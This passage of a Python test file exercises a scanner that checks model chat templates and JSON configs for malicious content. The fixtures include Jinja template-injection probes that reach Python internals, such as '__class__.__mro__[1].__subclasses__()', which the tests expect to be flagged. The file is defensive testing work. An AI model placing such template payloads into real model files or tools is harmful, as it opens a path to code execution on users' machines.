                                                 {"name": "tool_use", "template": source}])))
    result = only(path)
    assert str(result.verdict) == "malicious"
    assert {f.location.member for f in above_info(result.findings)} == {"chat_template.tool_use"}
    verdicts = {m.name: str(m.verdict) for m in result.members}
    assert verdicts["chat_template.default"] == "clean" and verdicts["chat_template.tool_use"] == "malicious"


def test_chat_template_json_and_mapping_form(tmp_path):
    path = tmp_path / "chat_template.json"
    path.write_text(json.dumps({"chat_template": inject(GEMMA, "{{ ''.__class__.__mro__[1].__subclasses__() }}")[0]}))
    assert str(only(path).verdict) == "malicious"
    path.write_text(json.dumps({"chat_template": {"default": GEMMA, "vision": "{{ messages.__class__ }}"}}))
    result = only(path)
    assert str(result.verdict) == "malicious"
    assert [f.location.member for f in above_info(result.findings)] == ["chat_template.vision"]


def test_ordinary_json_is_clean_and_cheap(tmp_path):
    config = tmp_path / "config.json"
    config.write_text(json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 4096,
                                  "rope_scaling": None, "torch_dtype": "bfloat16", "score": float("nan")}))
    infos = tmp_path / "dataset_infos.json"
    infos.write_text(json.dumps({"default": {"description": "", "features": {"text": {"dtype": "string"}},
                                             "splits": {"train": {"num_examples": 10}}}}))
    tokenizer = tmp_path / "tokenizer.json"
    vocab = {f"\u0120tok{i}": i for i in range(120_000)}
    merges = [f"\u0120t ok{i}" for i in range(100_000)]
    tokenizer.write_text(json.dumps({"version": "1.0", "added_tokens": [], "model": {
        "type": "BPE", "vocab": vocab, "merges": merges}}, ensure_ascii=False))
    assert tokenizer.stat().st_size > 3_000_000
    lines = tmp_path / "train.jsonl"
    lines.write_text("\n".join(json.dumps({"text": f"row {i}", "chat_template": "{{ x.__class__ }}"})
                               for i in range(100)) + "\n")
    started = time.monotonic()
    for path in (config, infos, tokenizer, lines):
        result = only(path)
        assert str(result.verdict) == "clean", (path.name, result.problems, result.findings)
        assert result.findings == ()
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("text", [
    '{"a": 1, // a comment\n "b": 2}',
    '{"a": [1, 2,],}',
    '{"a": 1',
    '{"a": 1}\n{"b": \n',
])
def test_invalid_json_is_inconclusive(tmp_path, text):
    path = tmp_path / "config.json"
    path.write_text(text)
    result = only(path)
    assert str(result.verdict) == "inconclusive"
    assert "JSON" in result.problems[0].reason


def test_text_that_only_starts_like_json(tmp_path):
    ini = tmp_path / "setup.cfg"
    ini.write_text("[metadata]\nname = tiny\n")
    template = tmp_path / "prompt.tmpl"
    template.write_text("{%- for m in messages %}{{ m.__class__ }}{% endfor %}")
    ctx = ScanContext(str(ini))
    assert json_files.handle(io.BytesIO(ini.read_bytes()), ctx, None, 0) == "text"
    assert ctx.problems == [] and ctx.findings == []
    ctx = ScanContext(str(template))
    assert json_files.handle(io.BytesIO(template.read_bytes()), ctx, None, 0) == "template"
    assert [f.rule for f in ctx.findings] == ["template-dunder-access"]


def test_large_json_is_streamed_for_template_keys(tmp_path, monkeypatch):
    monkeypatch.setattr(json_files, "MAX_PARSE_BYTES", 4096)
    monkeypatch.setattr(json_files, "READ_CHUNK", 1000)
    rows = [{"text": f"row number {i}", "label": i % 3} for i in range(2000)]
    plain = tmp_path / "data.json"
    plain.write_text(json.dumps(rows))
    result = only(plain)
    assert (result.format, str(result.verdict)) == ("large_json", "clean")

    keyed = tmp_path / "processor_config.json"
    keyed.write_text(json.dumps({"rows": rows, "chat_template": CHATML}))
    assert str(only(keyed).verdict) == "inconclusive"

    escaped = tmp_path / "tokenizer_config.json"
    escaped.write_text(json.dumps({"rows": rows})[:-1] + ', "\\u0063hat_template": "{{ x }}"}')
    result = only(escaped)
    assert str(result.verdict) == "inconclusive" and "escape" in result.problems[0].reason
